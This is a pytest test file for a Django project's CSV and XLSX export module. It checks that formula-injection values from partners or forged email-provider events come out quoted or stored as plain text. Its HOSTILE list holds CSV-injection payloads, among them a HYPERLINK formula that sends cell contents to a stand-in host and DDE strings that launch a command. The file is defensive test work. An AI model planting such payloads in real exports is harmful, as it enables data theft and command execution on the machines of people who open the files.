"""stadshart.exports, the one writer of every CSV and XLSX: hostile values through every export.

CSV: what a spreadsheet would evaluate gets a quote (OWASP CSV injection), also behind spaces,
quotes and line breaks. XLSX: string cells are stored as strings (never formulas) and shown as
typed; numbers stay numbers, dates dates.
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from crm.exporting import export_organisations, export_people
from crm.models import Organisation, Person
from newsletter.models import DeliveryEvent
from stadshart import exports
from tests.builders import make_delivery, make_organisation, make_person, make_send, make_staff

# Values a hostile partner, member or forged ESP event could put into a cell.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '" =1+1',
    "'=1+1",
    "\n=1+1",
    "  \n\t@SUM(A1)",
]


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_inert_csv(cell: str):
    # What a spreadsheet skips before deciding that a cell is a formula; a quote stops it.
    assert not cell.lstrip(' \t\r\n"').startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_csv_cell_is_quoted_and_keeps_its_text(value):
    (cell,) = csv_rows(exports.csv_bytes([[value]]))[0]
    assert cell.startswith("'") and cell[1:] == value


def test_csv_writes_numbers_and_dates_the_dutch_way_and_ordinary_text_as_is():
    moment = timezone.make_aware(dt.datetime(2026, 11, 23, 9, 5))
    row = csv_rows(
        exports.csv_bytes([[-12, Decimal("-12.50"), dt.date(2026, 11, 23), moment, "Café 't Hoekje"]])
    )
    assert row == [["-12", "-12,50", "23-11-2026", "23-11-2026 09:05", "Café 't Hoekje"]]


def test_xlsx_keeps_text_as_typed_and_never_as_a_formula():
    content = exports.xlsx_bytes(
        [("Lijst", [[*HOSTILE, 7, Decimal("12.50"), dt.date(2026, 11, 23), "bel\x07l"]])]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = next(sheet.iter_rows())
    texts = cells[: len(HOSTILE)]
    # XML turns a carriage return into a line break; everything else reads back exactly.
    assert [cell.value for cell in texts] == [value.replace("\r", "\n") for value in HOSTILE]
    assert all(cell.data_type == "s" for cell in texts)
    number, amount, day, bell = cells[len(HOSTILE) :]
    assert number.value == 7 and number.data_type == "n"
    assert amount.value == 12.5 and amount.data_type == "n"
    assert day.value == dt.datetime(2026, 11, 23) and day.number_format == "DD-MM-YYYY"
    assert bell.value == "bell"  # a control character XML cannot hold is dropped, not a crash


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_names_and_phones_go_through_the_crm_exports_unharmed(db, fmt):
    for number, value in enumerate(HOSTILE):
        organisation = make_organisation(f"{value} #{number}", phone=value[:20], town=value[:80])
        make_person(value[:40], "Bouzid", organisation=organisation)

    for export in (
        export_organisations(Organisation.objects.all(), fmt),
        export_people(Person.objects.all(), fmt),
    ):
        if fmt == "csv":
            cells = [cell for row in csv_rows(export.content)[1:] for cell in row if cell]
            assert len(cells) > len(HOSTILE)
            for cell in cells:
                assert_inert_csv(cell)
        else:
            book = openpyxl.load_workbook(io.BytesIO(export.content))
            cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if cell.value]
            assert cells and all(cell.data_type == "s" for cell in cells)
            assert any(cell.value == HOSTILE[0] + " #0" for cell in cells)  # shown as typed


def test_a_forged_click_url_cannot_become_a_formula_in_the_results_csv(client, db):
    sent_at = timezone.now() - dt.timedelta(hours=2)
    send = make_send("Kerstmarkt", sent_at=sent_at)
    delivery = make_delivery(send, "lezer@example.nl", sent_at=sent_at)
    for number, url in enumerate(HOSTILE):
        DeliveryEvent.objects.create(
            delivery=delivery,
            send=send,
            esp="Mailgun",
            event_id=f"forged-{number}",
            event_type="clicked",
            timestamp=sent_at + dt.timedelta(minutes=number),
            recipient=delivery.email,
            url=url,
        )
    client.force_login(make_staff("lotte", "Communicatie"))

    response = client.get(f"/admin/newsletters/results/{send.pk}/csv/")

    rows = csv_rows(response.content)
    links = rows[rows.index(["Link", "Kliks", "Unieke kliks"]) + 1 :]
    urls = [row[0] for row in links[: len(HOSTILE)]]
    assert len(urls) == len(HOSTILE) and all(url.startswith("'") for url in urls)
    for row in rows:
        for cell in row:
            assert_inert_csv(cell)
